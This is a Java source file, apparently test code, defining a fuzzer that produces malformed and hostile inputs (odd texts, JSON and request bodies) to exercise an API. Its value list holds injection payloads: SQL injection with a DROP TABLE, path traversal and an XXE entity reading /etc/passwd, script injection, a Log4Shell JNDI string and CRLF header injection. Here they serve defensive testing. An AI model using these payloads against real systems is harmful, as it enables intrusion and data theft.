package io.butie.bootstrap.api;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import com.google.gson.JsonPrimitive;
import java.math.BigDecimal;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGenerator;

/** What nobody means to send, and somebody does: texts, JSON and bytes, from a seed. */
final class HostileValues {

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\t",
          "\0",
          "null",
          "undefined",
          "-1",
          "0",
          "1e309",
          "9223372036854775807",
          "9223372036854775808",
          "1.5",
          "NaN",
          "true",
          "2023-02-30",
          "0000-00-00",
          "+999999999-12-31",
          "2023-06",
          "130100",
          "130199",
          "１３０１００",
          "*",
          "%",
          "' OR '1'='1",
          "'; DROP TABLE claim_line; --",
          "\"}{\"",
          "{}",
          "[]",
          "../../../../etc/passwd",
          "..\\..\\windows",
          "<script>alert(1)</script>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
          "=HYPERLINK(\"http://x\")",
          "@SUM(1)",
          "${jndi:ldap://x/y}",
          "#{1+1}",
          "%00",
          "\r\nX-Injected: yes",
          "\u202etxt.exe",
          "\ud83d\ude00",
          "\ufeff",
          "é",
          "e\u0301",
          "W/\"x\"",
          "\"*\"");

  private final RandomGenerator random;

  HostileValues(RandomGenerator random) {
    this.random = random;
  }

  <T> T oneOf(List<T> choices) {
    return choices.get(random.nextInt(choices.size()));
  }

  String text() {
    return switch (random.nextInt(6)) {
      case 0 -> oneOf(TEXTS).repeat(1 + random.nextInt(40));
      case 1 -> "x".repeat(random.nextInt(5_000));
      case 2 -> new String(bytes(random.nextInt(40)), StandardCharsets.UTF_16);
      default -> oneOf(TEXTS);
    };
  }

  /** A text that an HTTP client is willing to put into a header. */
  String header() {
    StringBuilder header = new StringBuilder();
    text()
        .codePoints()
        .filter(c -> c >= 0x20 && c < 0x7f)
        .limit(300)
        .forEach(header::appendCodePoint);
    return header.toString();
  }

  /** A text in a path or query: percent-encoded, by bytes that need not be UTF-8. */
  String inUrl() {
    byte[] bytes =
        random.nextInt(5) == 0
            ? bytes(1 + random.nextInt(20))
            : text().getBytes(StandardCharsets.UTF_8);
    StringBuilder encoded = new StringBuilder();
    for (byte b : Arrays.copyOf(bytes, Math.min(bytes.length, 1_000))) {
      encoded.append('%').append(Integer.toHexString((b & 0xff) | 0x100).substring(1));
    }
    return encoded.toString();
  }

  byte[] bytes(int length) {
    byte[] bytes = new byte[length];
    for (int at = 0; at < length; at++) {
      bytes[at] = (byte) random.nextInt(256);
    }
    return bytes;
  }

  /** A value of another kind than was asked for. */
  JsonElement json() {
    return switch (random.nextInt(8)) {
      case 0 -> JsonNull.INSTANCE;
      case 1 -> new JsonPrimitive(random.nextBoolean());
      case 2 -> new JsonPrimitive(random.nextLong());
      case 3 -> new JsonPrimitive(new BigDecimal("1e" + (random.nextInt(2_000) - 1_000)));
      case 4 -> new JsonArray();
      case 5 -> new JsonObject();
      default -> new JsonPrimitive(text());
    };
  }

  /** The body of a request, not far from the one that is right. */
  byte[] body(JsonElement right) {
    String text = right.toString();
    return switch (random.nextInt(12)) {
      case 0 -> new byte[0];
      case 1 -> utf8(text.substring(0, random.nextInt(text.length() + 1)));
      case 2 -> utf8(text + text);
      case 3 -> utf8("[".repeat(100 + random.nextInt(30_000)) + text);
      case 4 -> utf8("{\"a\":".repeat(100 + random.nextInt(10_000)));
      case 5 -> utf8(text.replaceFirst("\\{", "{\"region\":\"130200\","));
      case 6 -> utf8("\ufeff" + text);
      case 7 -> (text + "\"补贴\"").getBytes(Charset.forName("GBK"));
      case 8 -> bytes(random.nextInt(2_000));
      case 9 -> utf8(text.replace("}", ",\"x\":\"" + "y".repeat(70_000) + "\"}"));
      default -> utf8(changed(right).toString());
    };
  }

  /** One member somewhere in it is another, missing, or one too many. */
  private JsonElement changed(JsonElement right) {
    if (!right.isJsonObject() || right.getAsJsonObject().isEmpty()) {
      return json();
    }
    JsonObject changed = right.getAsJsonObject().deepCopy();
    Map.Entry<String, JsonElement> member = oneOf(new ArrayList<>(changed.entrySet()));
    switch (random.nextInt(5)) {
      case 0 -> changed.remove(member.getKey());
      case 1 -> changed.add(text(), json());
      case 2 -> changed.add(member.getKey(), changed(member.getValue()));
      default -> changed.add(member.getKey(), json());
    }
    return changed;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
